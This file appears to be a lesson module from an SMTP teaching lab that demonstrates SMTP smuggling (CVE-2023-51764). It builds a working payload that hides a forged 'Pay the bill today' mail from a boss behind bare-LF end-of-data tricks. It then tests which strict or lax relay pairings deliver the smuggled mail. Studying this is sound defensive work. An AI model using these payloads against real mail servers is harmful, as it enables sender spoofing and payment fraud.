r"""How does one mail become two on its way? Two servers do not agree on where a mail ends (CVE-2023-51764 and others).

The first finds `\n.\r\n` in a mail, takes it for text, and passes it on. The second takes it for the end, and what
follows for commands of the first server, whom it trusts.
"""

from contextlib import suppress
from dataclasses import replace
from functools import cache
from typing import Any, Final

from smtplab.lessons.attacks.cast import ACCOUNTS, BOSS, FIRST, MALLORY, OFFICE, PASSWORD, SECOND
from smtplab.lessons.cast import clock
from smtplab.net.client import Client, ServerGone
from smtplab.net.server import Server
from smtplab.protocol import commands, replies
from smtplab.protocol.client import SmtpError
from smtplab.protocol.mail import MailObject, with_crlf
from smtplab.protocol.replies import Reply
from smtplab.protocol.server import ServerSession

TRICKS: Final = (b"\n.\n", b"\n.\r\n")
LAX: Final = ("bare-lf",)

LETTER: Final = f"""\
From: <{MALLORY}>
To: <{OFFICE}>
Subject: A question

When do you open?""".replace("\n", "\r\n").encode()

SMUGGLED: Final = f"""\
MAIL FROM:<{BOSS}>
RCPT TO:<{OFFICE}>
DATA
From: <{BOSS}>
To: <{OFFICE}>
Subject: Urgent

Pay the bill today.""".replace("\n", "\r\n").encode()


def poisoned(trick: bytes, smuggled: int = 1) -> bytes:
    """Write the mail data of a letter with further mails in it, each behind the trick; the end mark is the true one."""
    return LETTER + (trick + SMUGGLED) * smuggled + b"\r\n.\r\n"


class Relay(Server):
    """The first server: takes mail of its users, and passes each on at once to the next one (RFC 5321 §2.3.10).

    mends: makes CRLF of every line end before it passes a mail on. choices: of a `Server`.
    """

    def __init__(self, following: Server, *, mends: bool = False, **choices: Any) -> None:
        own = {"domain": FIRST, "auth_required": True, "sender_is_user": True, "clock": clock}
        super().__init__(ACCOUNTS, **own, **choices)  # type: ignore[arg-type]  # they are of many types
        self._following = following
        self._mends = mends

    def store(self, mail: MailObject, session: ServerSession, client_address: str) -> Reply:
        """Pass a mail on, with a trace field on top, while its sender waits."""
        name = str(next(self.names))
        content = self.received_field(mail, session, client_address, name) + mail.content
        try:
            _pass_on(self._following, replace(mail, content=with_crlf(content) if self._mends else content))
        except (SmtpError, OSError):
            return replies.CANNOT_STORE
        return replies.queued(name)


def _pass_on(server: Server, mail: MailObject) -> None:
    client = Client(server)
    client.connect()
    try:
        client.ehlo(FIRST)
        client.mail(mail.reverse_path)
        for forward_path in mail.forward_paths:
            client.rcpt(forward_path)
        reply = client.data(mail.content)
        while client.has_more or reply.code == 354:  # to nothing that it said; it hears that out, and does not wonder
            reply = client.answer("nothing").reply
        with suppress(SmtpError, OSError):  # the mail is there
            client.quit()
    finally:
        client.close()


def hand_in(server: Server, octets: bytes) -> None:
    """Log in as Mallory, send mail data as it stands, end mark included, and QUIT behind it; hear all that is said."""
    client = Client(server)
    client.connect()
    try:
        client.ehlo("TINY-DESKTOP")
        client.auth("PLAIN", MALLORY, PASSWORD)
        client.mail(MALLORY)
        client.rcpt(OFFICE)
        client.command(commands.DATA)
        client.send(octets + b"QUIT\r\n", "the letter")
        with suppress(ServerGone):  # it closes after QUIT
            while True:
                client.answer("the letter")
    finally:
        client.close()


# How a server may read, by what it is called in tables: the choices of a `Relay`, and of the second server.
FIRSTS: Final[dict[str, dict[str, Any]]] = {"strict": {}, "lax": {"lax": LAX}, "strict, mends": {"mends": True}}
SECONDS: Final[dict[str, dict[str, Any]]] = {"strict": {}, "lax": {"lax": LAX}}


def second_server(**choices: Any) -> Server:
    """Give the second server. choices: of a `Server`."""
    return Server(domain=SECOND, mailboxes=[OFFICE], clock=clock, **choices)


@cache
def stored(first: str, second: str, trick: bytes, smuggled: int = 1) -> int:
    """Say how many mails a second server stores of one letter. It is sent over real sockets, once for each pair."""
    with second_server(**SECONDS[second]) as receiving, Relay(receiving, **FIRSTS[first]) as relay:
        hand_in(relay, poisoned(trick, smuggled))
    return len(receiving.mailboxes[OFFICE])


def table(trick: bytes) -> str:
    """Write how many mails are stored, for each pair of servers."""
    rows = [f"{f'stored, by {trick!r}':<22}" + "".join(f"{f'second {second}':>16}" for second in SECONDS)]
    for first in FIRSTS:
        rows.append(f"{f'first {first}':<22}" + "".join(f"{stored(first, second, trick):>16}" for second in SECONDS))
    return "\n".join(rows)
